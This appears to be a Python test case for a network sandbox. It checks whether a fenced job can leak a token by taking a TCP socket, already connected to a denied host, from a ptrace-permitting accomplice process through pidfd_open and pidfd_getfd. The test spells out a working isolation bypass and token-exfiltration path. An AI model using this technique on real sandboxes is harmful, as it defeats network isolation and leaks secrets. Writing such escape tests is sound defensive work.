"""The job takes a socket from a process outside the fence with pidfd_open() + pidfd_getfd() (an accomplice of the same uid that allowed ptrace, PR_SET_PTRACER_ANY): a TCP socket connected to a denied host, then sends the token. Expected: what docs/threat-model.md says remains."""
import ctypes
import time

from vlib import *  # noqa: F401,F403
import inherit_unix_passed as base

POLICY = {"allow": [A4 + ":443"]}
FEATURES = ["pidfd_getfd"]
AS = ("nobody", "root")
SINKS_OK = []
# no DENIED: the accomplice outside connects to the denied host itself (unfenced, as
# allowed); what must not get there is the job's token
judge = base.judge
PR_SET_PTRACER, PR_SET_PTRACER_ANY = 0x59616d61, 0xffffffffffffffff


def outside(token, st):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            if st["user"] != "root":
                os.setgid(65534)
                os.setuid(65534)
            libc = ctypes.CDLL(None, use_errno=True)
            libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: setuid() cleared it
            libc.prctl(PR_SET_PTRACER, ctypes.c_ulong(PR_SET_PTRACER_ANY), 0, 0, 0)
            t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            t.connect((D4, 443))
            os.write(w, b"%d\n" % t.fileno())
            time.sleep(20)
        finally:
            os._exit(0)
    os.close(w)
    fd = int(os.read(r, 100).split()[0])
    st["pids"].append(pid)
    return {"args": [pid, fd]}


def job(token, args):
    pid, fd = int(args[0]), int(args[1])
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0:
        out(step="pidfd_open %d" % pid, ok=False, err=err_name(OSError(ctypes.get_errno(), "")))
        return
    got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
    if got < 0:
        out(step="pidfd_getfd", ok=False, err=err_name(OSError(ctypes.get_errno(), "")))
        return
    s = socket.socket(fileno=got)
    attempt("send on the taken socket", s.send, payload(token, "pidfd_getfd"))
    time.sleep(0.3)


if __name__ == "__main__":
    main(globals())
